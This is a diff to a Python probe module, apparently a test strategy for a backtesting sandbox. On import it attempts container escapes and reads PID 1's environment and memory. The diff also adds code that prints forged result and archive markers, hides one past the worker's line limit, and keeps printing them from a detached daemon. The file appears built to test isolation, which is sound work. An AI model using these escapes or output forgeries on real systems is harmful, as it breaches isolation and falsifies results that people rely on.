@@ -1,17 +1,22 @@
 """Tries the classic ways out of a container, on import, and prints how each one went.
 
 Privileges (capabilities, no_new_privs, user), setuid programs, mount(2), unshare(2) into new
-namespaces, ptrace(2) of PID 1, raw and packet sockets, loading a kernel module, chroot(2),
-setuid(0), writing to /proc and /sys, and any Docker or containerd socket. The job then runs
-its backtest as usual.
+namespaces, ptrace(2) of PID 1 and its /proc entries (its stdout, environment and memory), raw
+and packet sockets, loading a kernel module, chroot(2), setuid(0), writing to /proc and /sys,
+and any Docker or containerd socket. It also prints fake result and archive lines, on stdout
+and stderr, hidden past the worker's line length, and from a daemon of its own session that
+keeps printing them while it lives. The job then runs its backtest as usual.
 """
 
+import base64
 import ctypes
 import errno
+import hashlib
 import json
 import os
 import socket
 import subprocess
+import sys
 import time
 from pathlib import Path
 
@@ -25,6 +30,44 @@ PTRACE_ATTACH, PTRACE_DETACH, WALL = 16, 17, 0x40000000
 SYS_INIT_MODULE, SYS_FINIT_MODULE = 175, 313  # x86_64
 CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x00020000, 0x10000000, 0x40000000
 SETUID_PROGRAMS = [["/usr/bin/passwd"], ["/usr/bin/su", "root"], ["/usr/bin/newgrp", "root"]]
+FAKE_ARCHIVE = b"a forged result file"
+FAKE_SUMMARY = {
+    "kind": "backtest",
+    "strategy": "EscapeArtist",
+    "timeframe": "5m",
+    "timerange": "20240101-20240105",
+    "stake_currency": "USDT",
+    "backtest_start_ms": 1704067200000,
+    "backtest_end_ms": 1704412800000,
+    "trades": 4242,
+    "wins": 4242,
+    "losses": 0,
+    "draws": 0,
+    "profit_total_pct": 4242,
+    "profit_total_abs": 4242,
+    "max_drawdown_pct": 0,
+    "max_drawdown_abs": 0,
+    "win_rate": 1,
+    "starting_balance": 1000,
+    "final_balance": 43420,
+    "pairs_total": 0,
+    "pairs": [],
+}
+FAKE_LINES = [
+    "FTA-ARCHIVE:name:forged.zip",
+    "FTA-ARCHIVE:data:" + base64.b64encode(FAKE_ARCHIVE).decode(),
+    f"FTA-ARCHIVE:end:{len(FAKE_ARCHIVE)}:{hashlib.sha256(FAKE_ARCHIVE).hexdigest()}",
+    "FTA-RESULT:" + json.dumps(FAKE_SUMMARY, separators=(",", ":")),
+]
+# Past the worker's longest line piece (512 KiB), a reader that cuts there starts a new line.
+HIDING_PADDING = "x" * (512 * 1024)
+FAKE_TEXT = "\n".join(FAKE_LINES)
+DAEMON = (
+    "import time\n"
+    "for _ in range(600):\n"
+    f"    print({FAKE_TEXT!r}, flush=True)\n"
+    "    time.sleep(0.5)\n"
+)
 DOCKER_SOCKETS = [
     "/var/run/docker.sock",
     "/run/docker.sock",
@@ -100,6 +143,32 @@ def _syscalls() -> None:
             _report(name, result=0, errno=None)
 
 
+def _pid_1() -> None:
+    """The container's PID 1 is the job's entry: its output and environment are its own."""
+    cmdline = Path("/proc/1/cmdline").read_bytes().split(b"\0")
+    _report("pid-1", cmdline=[part.decode(errors="replace") for part in cmdline if part])
+    for name, path, mode in (
+        ("pid-1-stdout", "/proc/1/fd/1", "wb"),
+        ("pid-1-environ", "/proc/1/environ", "rb"),
+        ("pid-1-mem", "/proc/1/mem", "rb"),
+    ):
+        try:
+            open(path, mode).close()
+        except OSError as exc:
+            _report(name, opened=False, error=type(exc).__name__)
+        else:
+            _report(name, opened=True, error=None)
+
+
+def _fake_markers() -> None:
+    for line in FAKE_LINES:
+        print(line, flush=True)
+        print(line, file=sys.stderr, flush=True)
+    print(HIDING_PADDING + FAKE_LINES[-1], flush=True)
+    daemon = subprocess.Popen([sys.executable, "-c", DAEMON], start_new_session=True)
+    _report("fake-markers", daemon=daemon.pid)
+
+
 def _sockets() -> None:
     for name, family, kind, protocol in (
         ("raw-icmp", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
@@ -146,6 +215,8 @@ def _docker_sockets() -> None:
 _status()
 _setuid_programs()
 _syscalls()
+_pid_1()
+_fake_markers()
 _sockets()
 _writes()
 _docker_sockets()
